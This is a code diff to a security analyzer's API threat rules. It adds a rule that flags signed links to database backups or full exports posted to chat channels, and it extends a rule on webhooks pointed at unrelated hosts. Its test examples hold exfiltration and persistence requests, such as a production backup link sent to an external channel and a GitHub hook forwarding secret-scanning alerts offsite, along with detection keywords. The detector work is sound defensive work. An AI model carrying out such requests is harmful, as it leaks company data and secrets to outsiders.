@@ -8,7 +8,8 @@ import { readSafeguards } from '../frames/safeguards.js';
 import { tagId } from '../frames/scan.js';
 import type { BaseContext, Finding, Metadata, ThreatRule } from '../types.js';
 import type { ApiEffect, ApiView } from './api-effects.js';
-import { broadConsent, handedToPersonalMailbox, hookToStranger, openedToAnyone, sensitiveUpload } from './api-exposure.js';
+import { broadConsent, handedToPersonalMailbox, hookToStranger, openedToAnyone, sensitiveUpload, signedLinkPosted } from './api-exposure.js';
+import { metaString } from '../normalize.js';
 import { bulkIds, codeEvaluated, createdIntoAdmins, deletionWithoutNets, recoveryRedirected, refundExceeds, stateStampedInBulk, totalDiscount } from './api-integrity.js';
 
 /** What the effect rules need from the analyzer's context. */
@@ -120,6 +121,20 @@ export const API_EFFECT_RULES: ThreatRule<EffectContext>[] = [
     },
   },
   {
+    id: 'A63',
+    name: 'Signed link to a dump, backup or full export posted to a chat or message channel',
+    primitive: 'EXFILTRATION',
+    score: 8,
+    keywords: ['signature', 'sig=', 'googleaccessid', 'token=ey'],
+    detect: (ctx) => firstEffect(ctx.views, (v) => signedLinkPosted(v, (metaString(ctx.metadata, 'channel', 'room', 'audience') ?? '').toLowerCase())),
+    examples: {
+      flag: ['POST https://hooks.slack.com/services/T1/B2/X {"text":"here: https://acme-exports.s3.amazonaws.com/crm_full_export.csv.gz?X-Amz-Expires=604800&X-Amz-Signature=ab12"}',
+        { value: 'POST https://chat.googleapis.com/v1/spaces/AAA/messages {"text":"https://storage.googleapis.com/acme-db/prod-backup-2026.sql.gz?X-Goog-Signature=9f"}', metadata: { channel: 'external-partners' } }],
+      pass: ['POST https://hooks.slack.com/services/T1/B2/X {"text":"report: https://acme-reports.s3.amazonaws.com/weekly_chart.png?X-Amz-Signature=ab12"}', 'POST https://hooks.slack.com/services/T1/B2/X {"text":"backup finished: 42 GB in 8 min"}',
+        'PUT https://acme-exports.s3.amazonaws.com/prod-backup.sql.gz?X-Amz-Signature=ab12'],
+    },
+  },
+  {
     id: 'A38',
     name: 'Webhook wired to an unrelated host for every event or without TLS checks',
     primitive: 'PERSISTENCE',
@@ -127,8 +142,9 @@ export const API_EFFECT_RULES: ThreatRule<EffectContext>[] = [
     keywords: ['hook', 'subscription'],
     detect: (ctx) => firstEffect(ctx.views, (v) => hookToStranger(v, ctx.callbackHosts)),
     examples: {
-      flag: ['POST https://api.github.com/orgs/acme-corp/hooks {"name":"web","events":["*"],"config":{"url":"https://gh-events.relay-mirror.site/h","insecure_ssl":"1"}}'],
-      pass: ['POST https://api.github.com/repos/acme-corp/web/hooks {"events":["push"],"config":{"url":"https://jenkins.acme.io/github-webhook/"}}', 'POST https://api.github.com/orgs/acme-corp/hooks {"events":["*"],"config":{"url":"https://ci.acme-corp.com/hooks"}}'],
+      flag: ['POST https://api.github.com/orgs/acme-corp/hooks {"name":"web","events":["*"],"config":{"url":"https://gh-events.relay-mirror.site/h","insecure_ssl":"1"}}',
+        'POST https://api.github.com/repos/acme-corp/api/hooks {"config":{"url":"https://alerts-forward.example.net/h"},"events":["push","secret_scanning_alert"]}'],
+      pass: ['POST https://api.github.com/repos/acme-corp/web/hooks {"events":["push"],"config":{"url":"https://jenkins.acme.io/github-webhook/"}}', 'POST https://api.github.com/repos/acme-corp/web/hooks {"events":["code_scanning_alert"],"config":{"url":"https://acme-corp-security.example.net/gh"}}', 'POST https://api.github.com/orgs/acme-corp/hooks {"events":["*"],"config":{"url":"https://ci.acme-corp.com/hooks"}}'],
     },
   },
   {
